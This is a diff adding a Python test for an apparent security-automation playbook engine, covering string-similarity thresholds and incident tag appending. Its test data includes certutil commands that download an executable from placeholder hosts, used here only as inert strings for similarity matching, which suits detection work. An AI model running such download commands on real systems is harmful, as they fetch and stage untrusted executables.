@@ -510,6 +510,39 @@ def test_builtin_scripts_and_server_commands(book):
     assert session.war_room[-1]['Contents'] == 'Set: the argument "key" is required.'
 
 
+def test_string_similarity_and_appended_tags(book):
+    """Given StringSimilarity over a list of texts and a list of expected ones, and setIncident adding tags twice
+    with appendTags, Then only the pairs at or above the threshold reach the context (the script's misspelt
+    threshold argument works too), and the incident keeps every tag once; without appendTags the tags are replaced.
+    A threshold that is not a number is an error entry."""
+    found = ['certutil -urlcache -f http://a.example/x.exe x.exe', 'certutil -hashfile report.txt']
+    book.add('Similarity', {
+        0: start('7'),
+        7: script('Set', {'key': 'Found', 'value': found[0]}, '8'),
+        8: script('Set', {'key': 'Found', 'value': found[1], 'append': 'true'}, '1'),
+        1: script('StringSimilarity', {'string_A': {'complex': {'root': 'Found'}},
+                                       'string_B': 'certutil -urlcache -f http://b.example/y.exe y.exe',
+                                       'similarity_threshold': '0.6'}, '2'),
+        2: script('StringSimilarity', {'string_A': 'abc', 'string_B': 'xyz', 'similiarity_threshold': '0.9'}, '3'),
+        3: {**command('setIncident', {'tags': 'One, Two', 'appendTags': 'true'}, brand=''),
+            'nexttasks': {'#none#': ['4']}},
+        4: {**command('setIncident', {'tags': 'Two', 'appendTags': 'true'}, brand=''), 'nexttasks': {'#none#': ['5']}},
+        5: {**command('setIncident', {'tags': 'Three', 'appendTags': 'true'}, brand=''),
+            'nexttasks': {'#none#': ['6']}},
+        6: script('StringSimilarity', {'string_A': 'a', 'string_B': 'b', 'similarity_threshold': 'high'},
+                  continueonerror=True),
+    })
+    result, session = book.run('Similarity')
+    [pair] = result.context['StringSimilarity'] if isinstance(result.context['StringSimilarity'], list) else [
+        result.context['StringSimilarity']]
+    assert pair['StringA'] == found[0] and pair['SimilarityScore'] >= 0.6
+    assert result.incident['tags'] == ['One', 'Two', 'Three'] and 'appendTags' not in result.incident
+    assert 'not a number' in session.war_room[-1]['Contents']
+    book.add('Replace', {0: start('1'), 1: command('setIncident', {'tags': 'Only'}, brand='')})
+    result, _ = book.run('Replace', incident={'id': '1', 'name': 'x', 'tags': ['Old']})
+    assert result.incident['tags'] == 'Only'
+
+
 def test_indicator_query_inputs_are_refused(book):
     book.add('Indicators', {0: start('1'), 1: title()},
              inputs=[{'key': '', 'value': {}, 'playbookInputQuery': {'query': 'type:File', 'queryEntity': 'indicators'}}])
